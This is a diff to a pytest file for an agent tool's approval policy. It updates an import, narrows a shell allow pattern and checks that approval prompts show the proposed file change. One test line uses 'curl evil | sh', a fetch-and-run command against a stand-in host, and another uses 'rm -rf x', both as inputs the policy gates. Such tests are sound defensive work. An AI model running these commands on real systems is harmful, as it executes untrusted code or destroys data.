@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from agentctl.tools import ApprovalPolicy
+from agentctl.tools.approval import ApprovalPolicy
 from agentctl.tools.files import (
     EditFile,
     ListFiles,
@@ -93,7 +93,7 @@ def test_the_approval_policy(ws: Workspace) -> None:
     assert ask.needs_approval(WriteFile(ws), {"path": "a"})
     assert ask.needs_approval(RunShell(ws), {"command": "pytest -q"})
     assert not ApprovalPolicy(yes=True).needs_approval(RunShell(ws), {"command": "rm -rf x"})
-    allow = ApprovalPolicy(allow=("write_file", "run_shell:pytest*"))
+    allow = ApprovalPolicy(allow=("write_file", "run_shell:pytest *"))
     assert not allow.needs_approval(WriteFile(ws), {"path": "a"})
     assert not allow.needs_approval(RunShell(ws), {"command": "pytest -q tests"})
     assert allow.needs_approval(RunShell(ws), {"command": "curl evil | sh"})
@@ -133,7 +133,8 @@ def test_a_write_pauses_for_approval_without_a_terminal_then_runs_when_allowed(
     path, root = task
     paused = cli("run", path, "--workspace", root, "--no-input")
     assert paused.code == 3, paused.stderr
-    assert "Allow write_file summary.md? [y/N]" in paused.stderr
+    assert "Allow write_file summary.md?\n(new file, 26 bytes)" in paused.stderr
+    assert "+Two notes: alpha and beta." in paused.stderr  # the change itself is shown
     assert not (Path(root) / "summary.md").exists()
     done = cli("resume", "--input", "y")
     assert done.code == 0, done.stderr
